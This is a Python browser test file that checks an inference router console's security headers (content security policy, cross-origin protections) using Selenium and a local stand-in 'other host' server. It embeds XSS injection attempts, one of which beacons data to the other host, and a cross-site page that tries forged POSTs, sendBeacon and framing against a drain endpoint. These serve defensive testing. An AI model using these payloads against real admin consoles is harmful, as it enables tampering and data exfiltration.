"""What a real browser makes of the control plane's headers: the console within its policy, and other pages without."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any, Final

from aiohttp import web
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.common.keys import Keys

from tests.e2e.test_console import AZURE, LIMITS, TABLE, Page, browser, site

__all__ = ["browser"]  # the fixture

_WATCH: Final = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) =>
  window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
_VIOLATIONS: Final = "return window.violations"


class Watched:
    """Has every page of the browser keep what its policy stops."""

    def __init__(self, driver: webdriver.Chrome) -> None:
        self._driver = driver

    def __enter__(self) -> None:
        made = self._driver.execute_cdp_cmd("Page.addScriptToEvaluateOnNewDocument", {"source": _WATCH})
        self._script = made["identifier"]

    def __exit__(self, *_: object) -> None:
        self._driver.execute_cdp_cmd("Page.removeScriptToEvaluateOnNewDocument", {"identifier": self._script})


async def test_no_view_of_the_console_asks_for_what_its_policy_forbids(
    browser: webdriver.Chrome,
    tmp_path: Any,
) -> None:
    limited = {
        "models": {"gpt-4o": {"limits": {"rpm": 10}}},
        "ledger": {"dir": str(tmp_path / "ledger")},
        "server": {"admin_token": "a-token-of-the-test"},
    }
    async with site(browser, **limited) as s:
        s.r.clouds["azure-east"].faults.add("status", status=429, retry_after=60)
        for _ in range(4):
            name = await s.ask()

        def look(page: Page) -> None:
            page.open()
            page.find("#token").send_keys("wrong", Keys.ENTER)
            page.until_text("does not accept this token", "[role=alert]")
            page.find("#token").clear()
            page.find("#token").send_keys("a-token-of-the-test", Keys.ENTER)
            page.until_text(name)
            page.until_text("gpt-4o", LIMITS)
            page.find("#find").send_keys(name, Keys.ENTER)
            page.until_text("Decision log", "dialog")
            page.press(Keys.ESCAPE)
            page.until(lambda: not page.driver.find_elements(By.CSS_SELECTOR, "dialog"))
            page.script("document.querySelector('[data-deployment]').click()")
            page.find("dialog .primary").click()
            page.until_text("draining", TABLE.format("Deployments"))
            for width in (360, 1280):
                page.driver.set_window_size(width, 800)
            assert page.script(_VIOLATIONS) == ""
            page.open(width=360, height=740, scheme="dark", path=f"/console#request={name}")
            page.until_text("Decision log", "dialog")
            assert page.script(_VIOLATIONS) == ""
            assert not [line for line in page.errors() if "401" not in line]
            page.script("sessionStorage.clear()")

        with Watched(browser):
            await s.seen(look)


_INJECT: Final = """
const made = (tag, text) => { const it = document.createElement(tag); it.append(text); return it; };
const tries = {
  inline: () => document.body.append(made("script", "document.title = 'owned'")),
  handler: () => document.body.setAttribute("onclick", "document.title = 'owned'"),
  markup: () => document.body.insertAdjacentHTML("beforeend", '<img src=x onerror="document.title = 1">'),
  text: () => setTimeout("document.title = 'owned'"),
  style: () => document.head.append(made("style", "body { display: none }")),
  elsewhere: () => document.body.append(Object.assign(made("script", ""), { src: arguments[0] })),
  told: () => { new Image().src = arguments[0] + "?everything"; },
};
for (const attempt of Object.values(tries)) try { attempt(); } catch {}
document.body.click();
try { await fetch(arguments[0]); window.left = true; } catch {}
"""


async def test_the_policy_stops_what_slips_into_the_page(browser: webdriver.Chrome) -> None:
    """Where some name did become a script after all, it neither runs nor tells anybody."""
    async with site(browser) as s, other_page("") as other:

        def look(page: Page) -> None:
            page.open()
            page.until_text("live", ".status")
            page.driver.execute_script(f"return (async () => {{ {_INJECT} }})()", other.url)
            page.until(lambda: len(page.script(_VIOLATIONS)) >= 5, "violations")
            stopped = {line.split()[0] for line in page.script(_VIOLATIONS)}
            # Scripts do not come so far as to be asked where they are from.
            assert stopped == {"require-trusted-types-for", "style-src-elem", "img-src", "connect-src"}
            assert page.driver.title == "Inference router"
            assert page.script("return window.left === true") == ""
            assert page.script("return getComputedStyle(document.body).display") != "none"

        with Watched(browser):
            await s.seen(look)
        assert other.asked == []


# Of a page at another host: each way in which it can make a browser send something to the router.
_ATTACK: Final = """<!doctype html><title>innocent</title><body><script>
const router = "{router}", drain = router + "/deployments/{deployment}/drain", done = [];
const json = {{ "content-type": "application/json" }};
const note = (what) => (answer) => done.push(`${{what}} ${{answer?.type ?? answer}}`);
const kinds = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
const ways = kinds.map((kind, index) => {{
  const frame = Object.assign(document.createElement("iframe"), {{ name: `frame${{index}}` }});
  const form = document.createElement("form");
  Object.assign(form, {{ action: drain, method: "post", enctype: kind, target: frame.name }});
  document.body.append(frame, form);
  form.submit();
  return new Promise((resolve) => (frame.onload = resolve));
}});
navigator.sendBeacon(drain, "x");
const framed = Object.assign(document.createElement("iframe"), {{ src: router + "/console" }});
document.body.append(framed);
const script = Object.assign(document.createElement("script"), {{ src: router + "/status" }});
const scripted = new Promise((resolve) => {{
  script.onload = () => resolve("loaded");
  script.onerror = () => resolve("refused");
}});
document.body.append(script);
Promise.allSettled([
  ...ways,
  fetch(drain, {{ method: "POST", mode: "no-cors" }}).then(note("no-cors"), note("no-cors")),
  fetch(drain, {{ method: "POST", headers: json, body: "{{}}" }}).then(note("json"), note("json")),
  fetch(router + "/status").then(note("read"), note("read")),
  scripted.then(note("script")),
]).then(() => (document.title = done.sort().join(", ")));
</script>"""


class Other:
    def __init__(self) -> None:
        self.page = ""
        self.url = ""
        self.asked: list[str] = []

    async def serve(self, request: web.Request) -> web.Response:
        if request.path == "/page":
            return web.Response(text=self.page, content_type="text/html")
        self.asked.append(request.path_qs)
        return web.Response(text="document.title = 'owned'", content_type="text/javascript")


@asynccontextmanager
async def other_page(text: str) -> AsyncIterator[Other]:
    """A site of somebody else, on another host's name."""
    other = Other()
    other.page = text
    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", other.serve)
    runner = web.AppRunner(app, shutdown_timeout=0.1)
    await runner.setup()
    await web.TCPSite(runner, "localhost", 0).start()
    other.url = f"http://localhost:{runner.addresses[0][1]}/"
    try:
        yield other
    finally:
        await runner.cleanup()


async def test_a_page_of_somebody_else_changes_reads_and_frames_nothing(browser: webdriver.Chrome) -> None:
    async with site(browser) as s, other_page("") as other:
        other.page = _ATTACK.format(router=s.r.admin_url, deployment=AZURE)
        looks = 0
        live = s.r.worker.live

        async def counted() -> dict[str, object]:
            nonlocal looks
            looks += 1
            return await live()

        s.r.worker.live = counted  # type: ignore[method-assign]

        def visit(page: Page) -> str:
            page.open()  # the console itself would have been shown ...
            page.until_text("live", ".status")
            page.driver.get(f"{other.url}page")
            page.until(lambda: "script" in page.driver.title, "the end of all attempts")
            return str(page.driver.title)

        title = await s.seen(visit)
        failed = "TypeError: Failed to fetch"
        assert title == f"json {failed}, no-cors {failed}, read {failed}, script refused"
        assert not s.r.backend("azure-east").draining
        before = looks
        await asyncio.sleep(1.2)  # ... and in a frame it would look each second
        assert looks == before
